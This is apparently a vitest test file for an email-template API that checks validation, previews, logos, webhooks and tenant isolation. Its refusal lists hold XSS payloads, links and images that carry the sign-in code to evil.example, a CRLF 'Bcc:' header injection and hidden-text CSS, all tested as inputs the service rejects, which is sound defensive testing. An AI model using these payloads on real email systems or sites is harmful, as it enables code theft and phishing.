import { afterAll, beforeAll, expect, test } from 'vitest'
import { expectError, expectRefusal } from '../../../../test/harness/envelope.ts'
import { eventually, type Tenant } from '../../../../test/harness/harness.ts'
import { answer, startReceiver } from '../../../../test/harness/receiver.ts'
import { png } from '../../../tenancy/apps/logo/png.fixture.ts'
import { type MailingService, newEmailApp, startMailing } from '../../email-sign-in/email.fixture.ts'
import { eventsOf } from '../../sessions/sessions.fixture.ts'

let mailing: MailingService
beforeAll(async () => {
  mailing = await startMailing()
})
afterAll(() => mailing.stop())

const pathOf = (tenant: Tenant, kind = 'sign_in', language = 'en') =>
  `/apps/${tenant.appId}/email-templates/${kind}/${language}`
const SIGN_IN = {
  subject: 'Welcome to {{appName}}',
  text: 'Hello!\r\n\r\n{{code}}\n\n{{#link}}\nOr open {{link}}\n{{/link}}\n\nValid for {{minutes}} minutes.',
}
const STOP = 'Stop it: {{link}}\n\n{{warning}}'

test('an app writes its emails, by kind and language, and goes back to the default', async () => {
  const app = await newEmailApp(mailing)
  const { tenant } = app
  const all = (await tenant.get(`/apps/${tenant.appId}/email-templates?page_size=100`)).body
  expect([all.total, all.data.length]).toEqual([64, 64])
  expect(all.data.every((one: { isDefault: boolean }) => one.isDefault)).toBe(true)
  const standard = (await tenant.get(`/apps/${tenant.appId}/email-templates?kind=sign_in&language=en`)).body.data
  expect(standard).toEqual([all.data[0]])
  const set = await tenant.call('PUT', pathOf(tenant), { body: SIGN_IN })
  expect(set.body.data).toEqual({
    ...standard[0],
    subject: SIGN_IN.subject,
    text: SIGN_IN.text.replaceAll('\r\n', '\n'),
    isDefault: false,
    updatedAt: expect.any(String),
  })
  await tenant.patch(`/apps/${tenant.appId}`, { name: '<b>Shop</b>{{code}}' })
  const { mail, code } = await app.ask('ada@example.com')
  expect(mail.headers.subject).toBe('Welcome to <b>Shop</b>{{code}}')
  expect(mail.parts['text/plain']?.trim()).toBe(`Hello!\n\n${code}\n\nValid for 10 minutes.`)
  expect(mail.parts['text/html']).toContain(`>${code}</p>\n<p>Valid for`)
  // Another language has another template.
  expect((await app.ask('ada@example.com', { language: 'fr' })).mail.parts['text/plain']).toContain('Saisissez ce code')
  const html = '<p>{{appName}}: <strong>{{code}}</strong></p>{{#link}}<a href="{{link}}">Open</a>{{/link}}'
  await tenant.call('PUT', pathOf(tenant), { body: { ...SIGN_IN, html } })
  // The same again changes nothing, and is no event.
  expect((await tenant.call('PUT', pathOf(tenant), { body: { ...SIGN_IN, html } })).status).toBe(200)
  const written = await app.ask('ada@example.com')
  expect(written.mail.parts['text/html']).toContain(
    `<p>&lt;b&gt;Shop&lt;/b&gt;{{code}}: <strong>${written.code}</strong></p>\n</div>`,
  )
  expect((await tenant.call('DELETE', pathOf(tenant))).body.data).toEqual(standard[0])
  expect((await tenant.call('DELETE', pathOf(tenant))).body.data).toEqual(standard[0])
  const events = (await eventsOf(mailing.service, tenant, 'app.updated')) as { changed: string[] }[]
  const changes = events.map(({ changed }) => changed).filter(([field]) => field?.startsWith('emailTemplates'))
  expect(changes).toEqual([1, 2, 3].map(() => ['emailTemplates.sign_in.en']))
  await eventually('the acts in the audit log', async () => {
    const entries: { action: string; target: string }[] = (await tenant.get('/audit-log?action=email_template.*')).body
      .data
    const acts = entries.map(({ action, target }) => `${action} ${target}`)
    return acts.join() === ['deleted', 'updated', 'updated'].map((act) => `email_template.${act} sign_in.en`).join()
  })
})

test.each<[string, object, string, string, string?]>([
  ['sign_in', { text: 'No code' }, 'text', 'missing_placeholder', 'code'],
  ['sign_in', { text: '{{#link}}{{code}}{{/link}}' }, 'text', 'missing_placeholder', 'code'],
  ['sign_in', { text: '{{code}} {{password}}' }, 'text', 'unknown_placeholder', 'password'],
  ['sign_in', { text: '{{code}} {{__proto__}}' }, 'text', 'unknown_placeholder', '__proto__'],
  ['sign_in', { text: '{{code}} {{time}}' }, 'text', 'unknown_placeholder', 'time'],
  ['sign_in', { text: '{{code}} {{ code }}' }, 'text', 'invalid'],
  ['sign_in', { text: '{{code}} {{#link}}' }, 'text', 'invalid'],
  ['sign_in', { text: '{{code}} {{link}}' }, 'text', 'invalid', 'link'],
  ['sign_in', { text: 'https://evil.example/?c={{code}}' }, 'text', 'invalid'],
  ['sign_in', { text: '{{code}} \u202e' }, 'text', 'invalid'],
  ['sign_in', { text: '{{code}} \u0007' }, 'text', 'invalid'],
  ['sign_in', { subject: 'a\r\nBcc: eve@example.com' }, 'subject', 'invalid'],
  ['sign_in', { subject: 'a\u2028b' }, 'subject', 'invalid'],
  ['sign_in', { subject: '{{code}}' }, 'subject', 'unknown_placeholder', 'code'],
  ['sign_in', { html: '<p>Nothing</p>' }, 'html', 'missing_placeholder', 'code'],
  ['sign_in', { html: '<img src="{{logo}}" alt="{{code}}">' }, 'html', 'not_allowed'],
  ['change_current', { text: '{{code}}' }, 'text', 'missing_placeholder', 'warning'],
  ['recovery', { text: '{{code}}' }, 'text', 'missing_placeholder', 'warning'],
  ['recovery_requested', { text: '{{warning}}' }, 'text', 'missing_placeholder', 'link'],
  ['recovery_requested', { text: '{{link}}' }, 'text', 'missing_placeholder', 'warning'],
  ['recovery_requested', { text: '{{#link}}{{link}}{{/link}} {{warning}}' }, 'text', 'invalid'],
  ['recovery_reminder', { text: STOP, html: '<p>{{warning}} {{link}}</p>' }, 'html', 'missing_placeholder', 'link'],
  [
    'recovery_reminder',
    { text: STOP, html: '<a href="{{link}}"> &#8203;\u200b</a>{{warning}}' },
    'html',
    'missing_placeholder',
    'link',
  ],
  ['recovery_completed', { text: 'All is well' }, 'text', 'missing_placeholder', 'warning'],
  ['recovery_completed', { text: '{{warning}} {{link}}' }, 'text', 'unknown_placeholder', 'link'],
])('%s with %j is refused at %s: %s', async (kind, change, field, code, placeholder) => {
  const { tenant } = await shop()
  const body = { subject: 'Shop', text: '{{code}}', ...change }
  for (const [method, path, more] of [
    ['PUT', pathOf(tenant, kind), {}],
    ['POST', `/apps/${tenant.appId}/email-templates/preview`, { kind, language: 'en' }],
  ] as const) {
    const details = expectRefusal(await tenant.call(method, path, { body: { ...body, ...more } }), 'validation_failed')
    expect(details).toContainEqual(
      expect.objectContaining({ field, code, ...(placeholder === undefined ? {} : { placeholder }) }),
    )
  }
})

let known: ReturnType<typeof newEmailApp> | undefined
/** One app for the tests that change nothing. */
function shop() {
  known ??= newEmailApp(mailing)
  return known
}

test('HTML that hides, loads, runs or misleads is refused and not cleaned', async () => {
  const { tenant } = await shop()
  const preview = (html: string) =>
    tenant.post(`/apps/${tenant.appId}/email-templates/preview`, {
      ...{ kind: 'sign_in', language: 'en', subject: 'Shop', text: '{{code}}' },
      html: `<p>{{code}}</p>${html}`,
    })
  const refused = [
    '<script>alert(1)</script>',
    '<SCRIPT src="https://evil.example/x.js"></SCRIPT>',
    '<style>p{display:none}</style>',
    '<!-- a --><p>x</p>',
    '<!doctype html>',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name="code"></form>',
    '<svg onload="alert(1)"></svg>',
    '<p onclick="alert(1)">x</p>',
    '<p class="x">x</p>',
    '<p hidden="">x</p>',
    "<p style='color:red'>x</p>",
    '<p style=color:red>x</p>',
    '<p style="background:url(https://evil.example/)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="color:&#114;ed">x</p>',
    '<p style="display:none">x</p>',
    '<p style="font-size:0">x</p>',
    '<p style="font-size:1px">x</p>',
    '<p style="margin:-99px">x</p>',
    '<p style="position:absolute">x</p>',
    '<p style="opacity:0">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="http://evil.example/">x</a>',
    '<a href="https://shop.example@evil.example/">x</a>',
    '<a href="https://evil.example/?c={{code}}">x</a>',
    '<a href="https://evil.example/">{{code}}</a>',
    '{{#link}}<a href="https://evil.example/">{{link}}</a>{{/link}}',
    '{{#link}}<a href="{{link}}">x{{/link}}</a>',
    '<img src="http://evil.example/x.png">',
    '<img src="data:image/svg+xml,x">',
    '<img src="https://evil.example/{{code}}.png">',
    '<img src="{{logo}}" srcset="https://evil.example/ 2x">',
    '<p>x',
    '<b><i>x</b></i>',
    '</p>',
    '<p><div>x</div></p>',
    '<table>x<tr><td>y</td></tr></table>',
    '<tr><td>x</td></tr>',
    '<a href="https://a.example/"><a href="https://b.example/">x</a></a>',
    '<p a<b="x">x</p>',
    '<p style="color:red" style="color:blue">x</p>',
    '{{logo}}',
    '<p',
    '<div>'.repeat(41) + '</div>'.repeat(41),
  ]
  for (const html of refused) {
    const details = expectRefusal(await preview(html), 'validation_failed', html)
    expect(details[0], html).toMatchObject({ field: 'html' })
  }
  const fine = [
    '<h1 style="color:#112233;text-align:center">Hi &amp; welcome</h1><hr><p dir="rtl" lang="ar">x<br/>y</p>',
    '<table role="presentation" width="100%"><tbody><tr><td style="padding:8px 0" align="center">x</td></tr></tbody></table>',
    '<ul><li>a <a href="https://shop.example/help?a=b&amp;c">Help</a></li></ul><a href="mailto:help@shop.example">Write</a>',
    '<img src="https://shop.example/a.png" alt="{{appName}}" width="40"> <img src="{{logo}}" alt="">',
    '{{#link}}<p><a href="{{link}}" style="font-weight:bold">Open {{link}}</a></p>{{/link}}',
  ]
  for (const html of fine) expect((await preview(html)).status, html).toBe(200)
})

test('a preview shows the branding and the direction of the language, and sends nothing', async () => {
  const { tenant } = await newEmailApp(mailing)
  const before = mailing.smtp.received.length
  const draft = { kind: 'recovery_requested', language: 'ar', subject: '{{appName}}', text: `{{time}}\n${STOP}` }
  const preview = async () => (await tenant.post(`/apps/${tenant.appId}/email-templates/preview`, draft)).body.data
  const plain = await preview()
  expect(plain.subject).toBe('Shop')
  expect(plain.text).toContain('https://id.example.com/signin#cancel_recovery=sample')
  expect(plain.html).toContain('<html lang="ar" dir="rtl">')
  expect(plain.html).not.toContain('<img')
  await tenant.patch(`/apps/${tenant.appId}`, { branding: { accentColor: '#1d4ed8' } })
  await tenant.post(`/apps/${tenant.appId}/logo`, { png: png({ width: 2, height: 1 }).toString('base64') })
  draft.text = '{{warning}}\n\nStop:\n{{link}}'
  const branded = await preview()
  expect(branded.html).toContain('background:#1d4ed8')
  expect(branded.html).toContain('<img src="data:image/png;base64,')
  expect(mailing.smtp.received).toHaveLength(before)
})

test('a logo comes with the email, and your server gets what was written', async () => {
  const app = await newEmailApp(mailing)
  const { tenant } = app
  await tenant.post(`/apps/${tenant.appId}/logo`, { png: png({ width: 2, height: 1 }).toString('base64') })
  const { mail } = await app.ask('ada@example.com')
  expect(mail.raw).toMatch(/content-id: <[^>]+>/i)
  expect(mail.raw).not.toContain('data:image')
  const receiver = await startReceiver(answer(204))
  const webhookSecret = `whsec_${Buffer.alloc(32, 7).toString('base64')}`
  await tenant.patch(`/apps/${tenant.appId}`, { email: { sender: 'webhook', webhookUrl: receiver.url, webhookSecret } })
  await tenant.call('PUT', pathOf(tenant), { body: { ...SIGN_IN, html: '<p>Digits: {{code}}</p>' } })
  await app.start('ada@example.com')
  const { event } = await receiver.until('the email', () => true)
  const { code } = event.data as { code: string }
  expect(event.data).toMatchObject({ subject: 'Welcome to Shop', text: expect.stringContaining(code) })
  expect((event.data as { html: string }).html).toContain(`<p>Digits: ${code}</p>`)
  await receiver.close()
})

test('a row that no call could have stored is not sent: the default is', async () => {
  const app = await newEmailApp(mailing)
  await app.tenant.call('PUT', pathOf(app.tenant), { body: SIGN_IN })
  await mailing.service.sql(
    `update email_templates set text = 'https://evil.example/{{code}}', html = '<script></script>' where app_id = $1`,
    [app.tenant.appId],
  )
  const { mail } = await app.ask('ada@example.com')
  expect(mail.raw).not.toContain('evil.example')
  expect(mail.parts['text/plain']).toContain('Enter this code to sign in to Shop:')
})

test('templates of another tenant or app, and of unknown emails, are not there', async () => {
  const { tenant } = await shop()
  const other = await mailing.service.newTenant()
  const otherApp = (await tenant.post('/apps', { name: 'Other' })).body.data.id
  const key = await tenant.newKey({ scopes: ['apps:read', 'apps:write'], appId: otherApp })
  const preview = { ...SIGN_IN, kind: 'sign_in', language: 'en' }
  for (const [method, path, body] of [
    ['GET', `/apps/${tenant.appId}/email-templates`, undefined],
    ['POST', `/apps/${tenant.appId}/email-templates/preview`, preview],
    ['PUT', pathOf(tenant), SIGN_IN],
    ['DELETE', pathOf(tenant), undefined],
  ] as const) {
    expectError(await other.call(method, path, { body }), 404, 'not_found')
    expectError(await tenant.call(method, path, { body, key }), 404, 'not_found')
  }
  for (const path of [pathOf(tenant, 'toString'), pathOf(tenant, 'sign_in', 'xx')])
    expectError(await tenant.call('PUT', path, { body: SIGN_IN }), 404, 'not_found')
  const reader = await tenant.newKey({ scopes: ['apps:read'] })
  const refused = [
    await tenant.call('PUT', pathOf(tenant), { body: SIGN_IN, key: reader }),
    await tenant.call('DELETE', pathOf(tenant), { key: reader }),
  ]
  for (const each of refused) expectError(each, 403, 'insufficient_scope')
})
